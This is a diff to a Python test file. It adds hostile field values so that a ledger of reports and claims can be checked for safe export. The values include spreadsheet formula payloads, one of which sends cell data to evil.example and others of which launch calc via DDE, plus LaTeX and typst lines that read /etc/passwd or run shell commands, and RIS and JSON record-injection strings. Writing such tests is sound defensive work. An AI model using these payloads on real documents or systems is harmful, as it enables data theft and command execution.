@@ -61,6 +61,15 @@ HOSTILE = {
     "empty": "",
     "spaces": "   \n  ",
     "table": "a | b\n--- | ---\n| x |",
+    "formula": '=HYPERLINK("https://evil.example?"&A1,"open")',
+    "formula after space": " \t@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula in full width": "＝1+1",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "latex": r"\input{/etc/passwd} \write18{ls} }{ 100% & #1 a_b ~ x^2 $\alpha$ @misc{x,a={y}}",
+    "typst": '#read("/etc/passwd") #import "@preview/evil:1.0.0": * *b* _i_ $x$ <note-1> @note-1',
+    "end of a string in typst": '") + read("/etc/passwd") + ("',
+    "ris record": "title\r\nER  - \r\nTY  - BOOK\r\nTI  - planted",
+    "json": '"}], "planted": [{"a": "b"}',
 }
 
 KINDS: tuple[SectionKind, ...] = (
@@ -79,12 +88,18 @@ KINDS: tuple[SectionKind, ...] = (
 )
 
 
-def ledger_of(words: str) -> Ledger:
-    """A ledger with ``words`` in every field that a reader gets to see."""
+def ledger_of(words: str, ids: str | None = None) -> Ledger:
+    """A ledger with ``words`` in every field that a reader gets to see.
+
+    Args:
+        words: what tries to be more than text.
+        ids: what ids are made of; ``words`` too when left out.
+    """
+    tag = words if ids is None else ids
     text = f"First line.\n{words}\nLast line."
     start, end = 12, 12 + max(1, len(words))
     one = Report(
-        id=words or "r1",
+        id=tag or "r1",
         text=text,
         path=words,
         url=words,
@@ -97,7 +112,7 @@ def ledger_of(words: str) -> Ledger:
     other = Report(id="r2", text=text, url=words, path=words, title=words)
     claims = tuple(
         Claim(
-            id=f"c{at}{words}",
+            id=f"c{at}{tag}",
             report=report.id,
             start=start,
             end=end,
@@ -105,14 +120,14 @@ def ledger_of(words: str) -> Ledger:
             attribution=None,
             certainty="likely",
             polarity="positive",
-            times=(f"t{words}",),
+            times=(f"t{tag}",),
         )
         for at, report in enumerate((one, other))
     )
     cites = tuple(Cite(c.id, c.report, start, end) for c in claims)
     finding = Finding(
-        id=f"f{words}",
-        story=f"s{words}",
+        id=f"f{tag}",
+        story=f"s{tag}",
         text=words,
         status="disputed",
         importance=1.0,
@@ -132,7 +147,7 @@ def ledger_of(words: str) -> Ledger:
             Analysis(
                 one.id,
                 times=tuple(
-                    TimeExpression(f"t{words}", one.id, start, end, "DATE", words, at, at)
+                    TimeExpression(f"t{tag}", one.id, start, end, "DATE", words, at, at)
                     for at in (datetime(2031, 5, 3, tzinfo=UTC),)
                 ),
                 flags=(Flag(one.id, start - 3, end + 2, words, words),),
